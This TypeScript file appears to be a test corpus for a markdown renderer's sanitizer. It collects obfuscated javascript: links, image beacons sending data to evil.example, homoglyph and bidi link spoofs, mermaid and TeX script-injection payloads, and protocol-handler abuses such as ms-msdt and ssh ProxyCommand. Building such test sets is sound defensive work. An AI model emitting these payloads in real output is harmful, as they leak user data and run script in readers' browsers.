import { evil, run } from './marks.ts';

/** The same forbidden scheme, spelled in ways that some parser accepts. */
const spellings = [
  'javascript\t:',
  'java\tscript:',
  'java\rscript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3A;',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript%3A',
  '\u00a0javascript:',
  '\u200bjavascript:',
  '\ufeffjavascript:',
  '\u0000javascript:',
  'jav\u0000ascript:',
  'ｊavascript:',
  'javaſcript:',
  'livescript:',
  'mocha:',
  'feed:javascript:',
  'jar:javascript:',
  'view-source:javascript:',
  'data:application/javascript,',
  'data:image/svg+xml;utf8,<svg/onload=',
  'data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml" onload=',
  'filesystem:',
  'intent://evil.example#Intent;scheme=http;end;',
  'ms-msdt:/id%20',
  'vscode://file/etc/passwd?',
  'ssh://-oProxyCommand=',
  'smb://evil.example/',
  '\\\\\\\\evil.example\\\\share\\\\',
];
const links = spellings.map((scheme) => `[press](${scheme}${run})`);
const autolinks = spellings.slice(0, 12).map((scheme) => `<${scheme}${run}>`);

/** Images: each would reveal that, when and where it was seen. */
const pictures = [
  `![a](${evil}/1.png "title")`,
  `![a](<${evil}/2.png>)`,
  `![a][p]\n\n[p]: <${evil}/3.png> 'x'`,
  `![p]\n\n[p]: ${evil}/4.png`,
  `![a](https:${evil.slice(6)}/5.png)`,
  `![a](\\\\evil.example/6.png)`,
  `![a](/\\evil.example/7.png)`,
  `![a](https://evil.example:443/8.png?q=[secret])`,
  `![a](ftp://evil.example/9.png)`,
  `![a](https://user:pass@evil.example/10.png)`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)`,
  `![a](blob:${evil}/11)`,
  `![a](/api/projects)`,
  `![![deep](${evil}/12.png)](${evil}/13.png)`,
  `[![badge](${evil}/14.svg)](${evil}/15)`,
  `| ![cell](${evil}/16.png) | b |\n| - | - |\n| c | ![cell](${evil}/17.png) |`,
  `- ![item](${evil}/18.png)\n  1. ![item](${evil}/19.png)`,
  `text[^p]\n\n[^p]: ![note](${evil}/20.png)`,
  `> [!NOTE]\n> ![alert](${evil}/21.png)`,
  `# ![heading](${evil}/22.png)`,
];

/** Links whose text names another host than their address. */
const lies = [
  `[https://github.com](https://github.com.evil.example/)`,
  `[accounts.google.com](https://accounts.google.com@evil.example/)`,
  `[https://github.com/a](https://evil.example/https://github.com/a)`,
  `[git\u202ehub.com](https://evil.example)`,
  `[аррӏе.com](https://xn--80ak6aa92e.com/)`,
  `[paypal.com\u2028](https://evil.example)`,
  `[](https://evil.example/empty)`,
  `[\u200b](https://evil.example/invisible)`,
  `[x](https://evil.example "https://github.com")`,
  `[x]( https://evil.example/#https://github.com )`,
  `https://github.com\u200b.evil.example/`,
  `[see **https://github.com**](https://evil.example)`,
];

const fence = (language: string, body: string): string => `\`\`\`${language}\n${body}\n\`\`\``;

/** Diagrams: libraries that draw them have run scripts and loaded things. */
const diagrams = [
  `graph LR; A["<img src=q onerror=${run}>"]-->B`,
  `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<script>${run}</script>"]`,
  `%%{init: {"themeCSS": "*{background:url(${evil}/css)}"}}%%\ngraph TD; A-->B`,
  `%%{init: {"theme": "base", "themeVariables": {"fontFamily": "x;}</style><img src=q onerror=${run}>"}}}%%\ngraph TD; A`,
  `flowchart TD\nA-->B\nclick A call alert("${run}")`,
  `flowchart TD\nA\nclick A href "javascript:${run}" _self`,
  `sequenceDiagram\nparticipant A\nlink A: Go @ javascript:${run}`,
  `sequenceDiagram\nA->>B: <iframe src="${evil}">`,
  `classDiagram\nclass A\ncallback A "${run}"`,
  `gantt\nsection <svg onload=${run}>\ntask: 2026-01-01, 1d\nclick task href "${evil}"`,
  `stateDiagram-v2\nA: <img src="${evil}/state.png">`,
  `erDiagram\nA ||--o{ B : "<details open ontoggle=${run}>"`,
  `---\nconfig:\n  securityLevel: loose\n---\ngraph TD; A["<b onclick=${run}>x</b>"]`,
  `graph TD; A@{ img: "${evil}/node.png", label: "x" }`,
  `graph TD; A["$$\\href{javascript:${run}}{x}$$"]`,
].map((body) => fence('mermaid', body));

/** Formulas: likewise. */
const formulas = [
  `\\href{javascript:${run}}{press}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics[width=1em]{${evil}/m.png}`,
  `\\htmlData{onclick=${run}}{x}`,
  `\\htmlClass{permission}{x}`,
  `\\htmlId{root}{x}`,
  `\\htmlStyle{background:url(${evil}/s)}{x}`,
  `\\style{position:fixed;inset:0}{x}`,
  `\\require{html}\\cssId{root}{x}`,
  `\\unicode{<img src=q onerror=${run}>}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\newcommand\\x{<script>${run}</script>}\\x`,
  `\\text{</span><img src=q onerror=${run}>}`,
  `\\color{red;background:url(${evil}/c)}x`,
  `\\rule{1000000em}{1000000em}`,
].flatMap((body) => [`$$${body}$$`, `\\(${body}\\)`]);

const fences = [
  fence(`js onload=${run}`, `${run}`),
  fence('html {.evil onclick=1}', `<script>${run}</script>`),
  fence('../../../etc/passwd', 'x'),
  fence('__proto__', 'x'),
  fence('ansi', '\u001b]0;title\u0007x'),
  fence('svg', `<svg onload="${run}"/>`),
  fence('iframe', `${evil}`),
  fence('math', `\\href{javascript:${run}}{x}`),
  `~~~~html\n<img src=q onerror=${run}>`,
  `    <img src=q onerror=${run}>`,
  `\`\`\`\`\n\`\`\`\n<script>${run}</script>`,
  `<details>\n\n[x](javascript:${run})\n\n<summary>`,
];

export const markdownFamilies = { links, autolinks, pictures, lies, diagrams, formulas, fences };
